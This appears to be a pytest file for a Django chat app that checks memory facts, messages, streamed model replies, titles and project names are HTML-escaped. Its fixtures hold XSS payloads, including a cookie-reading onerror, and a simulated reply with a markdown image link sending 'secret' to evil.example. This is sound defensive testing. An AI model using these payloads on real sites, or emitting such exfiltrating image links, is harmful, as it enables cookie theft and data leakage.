"""Fact text, messages, replies, titles and project names are escaped wherever a page
shows them, so a planted line or a model's reply can never run script or load anything.

Personas: a guest whose memory, conversation and project all hold markup. Already
covered: the support admin shows facts escaped (tests/memory/test_admin.py); pages send a
same-origin Content-Security-Policy (tests/whizi/test_headers.py).
"""

from __future__ import annotations

import html
import json

import pytest
from asgiref.sync import async_to_sync
from django.test import Client

from accounts.owner import GUEST_SESSION_KEY
from chat.models import Conversation, Message, Project
from memory.models import Memory, MemoryPass
from tests.conftest import guest_start
from whizi.llm.scripted import Script

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.slow]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    '"><svg onload=alert(1)>',
    "</textarea><b>bold</b>",
    "<a href='javascript:alert(1)'>x</a>",
]
MARKUP = ["<script>alert", "<img src=x", "<svg onload", "<b>bold", "<a href='javascript"]


def assert_escaped(page: str) -> None:
    for raw in MARKUP:
        assert raw not in page, raw


@pytest.fixture
def guest(settings) -> Client:
    settings.WHIZI_CHAT_MODELS = ["scripted/chat-a", "whizi/offline"]
    settings.WHIZI_MEMORY_READ_TIMEOUT = 2.0
    client = Client(enforce_csrf_checks=True)
    client.get("/")
    guest_start(client)
    return client


async def read_stream(response) -> str:
    return b"".join([chunk async for chunk in response.streaming_content]).decode()


def guest_id(client: Client) -> str:
    return client.session[GUEST_SESSION_KEY]


def test_facts_are_escaped_on_the_settings_page_and_its_htmx_block(guest):
    Memory.objects.create(guest_id=guest_id(guest), lines=PAYLOADS, version=1)
    page = guest.get("/settings/?memory=open").content.decode()
    block = guest.get("/settings/memory/?memory=open", headers={"HX-Request": "true"}).content.decode()
    for shown in (page, block):
        assert_escaped(shown)
        for payload in PAYLOADS:
            assert html.escape(payload) in shown  # shown, as text


def test_messages_replies_titles_and_projects_are_escaped_on_the_chat_page(guest):
    owner = {"guest_id": guest_id(guest)}
    project = Project.objects.create(**owner, name=PAYLOADS[1], instructions=PAYLOADS[0])
    chat = Conversation.objects.create(**owner, model="whizi/offline", project=project, title=PAYLOADS[2])
    for index, payload in enumerate(PAYLOADS):
        message = Message.objects.create(conversation=chat, role="user" if index % 2 == 0 else "assistant",
                                         content=payload, model="whizi/offline")
    MemoryPass.objects.create(**owner, trigger="request", through_message_id=message.pk)

    pages = [
        guest.get(f"/c/{chat.pk}/").content.decode(),
        guest.get(f"/?project={project.pk}").content.decode(),
        guest.get(f"/c/{chat.pk}/m/{message.pk}/memory/").content.decode(),
    ]
    for page in pages:
        assert_escaped(page)
    assert html.escape(PAYLOADS[0]) in pages[0]


def test_a_streamed_reply_with_markup_arrives_as_text(guest):
    reply = "Sure! " + " ".join(PAYLOADS) + " ![x](https://evil.example/?q=secret)"
    Script("chat-a").reset().reply(reply)
    token = guest.cookies["csrftoken"].value
    response = guest.post("/send/stream/", {"content": PAYLOADS[0], "model": "scripted/chat-a"},
                          headers={"X-CSRFToken": token})
    events = async_to_sync(read_stream)(response)

    done = json.loads(events.split("event: done\ndata: ", 1)[1].split("\n\n", 1)[0])
    assert_escaped(done["html"])
    assert_escaped(done["list_html"])
    assert html.escape(PAYLOADS[1]) in done["html"]
    # The page shows it as text: no element, so no image is fetched from evil.example.
    assert "<img" not in done["html"] and 'src="https://evil.example' not in done["html"]


def test_the_json_api_is_never_rendered_as_a_page(guest):
    Memory.objects.create(guest_id=guest_id(guest), lines=PAYLOADS, version=1)
    response = guest.get("/api/memory/")
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.json()["facts"] == PAYLOADS
